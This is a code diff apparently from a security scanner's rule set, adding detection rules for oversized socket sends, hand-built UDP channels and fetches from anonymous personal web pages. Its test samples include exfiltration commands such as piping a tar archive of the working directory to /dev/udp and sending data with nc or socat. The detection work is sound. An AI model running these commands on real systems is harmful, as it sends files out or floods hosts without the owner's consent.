@@ -6,7 +6,7 @@ import Policy
 extension Rule {
     static let network: [Rule] = [
         downloadAndRun, reverseShell, bindShell, tunnel, hiddenHost, bareAddress, programDownload, listening,
-        rawSocket, datagramFlood, networkShell,
+        rawSocket, datagramFlood, inflatedSend, datagramPipe, personalPage, networkShell,
         networkUse, networkProgram, scan,
     ]
 
@@ -177,6 +177,45 @@ extension Rule {
             .python(
                 "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x', ('127.0.0.1', 80))"
             )
+        ])
+
+    static let inflatedSend = Rule(
+        "inflated-send", .networkAccess, .review, 0.6, cwe: 405, attack: "T1498",
+        "Sends on a socket what it has blown up by repeating it thousands of times.",
+        when: .call(["socket.socket().sendto", "socket.socket().send", "socket.socket().sendall"]) {
+            $0.payload.contains(.many)
+        },
+        finds: [
+            .python("import socket\ns = socket.socket()\ns.sendto(b'a' * 60000, ('192.0.2.1', 80))"),
+            .python(
+                "import socket\nt = ''\nfor _ in range(20000):\n    t += x\nsocket.socket().send(t.encode())"),
+        ],
+        passes: [
+            .python("import socket\nsocket.socket().send(b'a' * 1024)"),
+            .python("import socket\nfor i in range(20000):\n    socket.socket().send(str(i).encode())"),
+        ])
+
+    static let datagramPipe = Rule(
+        "datagram-pipe", .networkAccess, .review, 0.6, cwe: 201, attack: "T1048.003",
+        "Opens a channel of datagrams by hand, where nobody answers for what goes through it.",
+        when: .connect { $0.mentions("udp:") },
+        finds: [
+            .shell("tar c . > /dev/udp/192.0.2.1/53"), .shell("echo x | nc -u -w1 192.0.2.1 5388"),
+            .shell("echo x | socat - UDP:192.0.2.1:53"),
+        ],
+        passes: [.shell("nc -z example.com 443"), .shell("ls /dev"), .shell("nc example.com 80 < request")])
+
+    static let personalPage = Rule(
+        "personal-page-fetch", .networkAccess, .review, 0.6, cwe: 829, attack: "T1105",
+        "Takes content from a host where anybody can put up a page without a name.",
+        when: .fetch { Destination($0).isPersonalPage },
+        finds: [
+            .python("import requests\nprint(requests.get('https://someone.github.io/a.html').text)"),
+            .shell("curl -s https://someone.pages.dev/x"),
+        ],
+        passes: [
+            .python("import requests\nrequests.get('https://docs.github.com/rest')"),
+            .shell("curl https://github.com/someone/project"), .python("page = 'https://someone.github.io'"),
         ])
 
     static let scan = Rule(
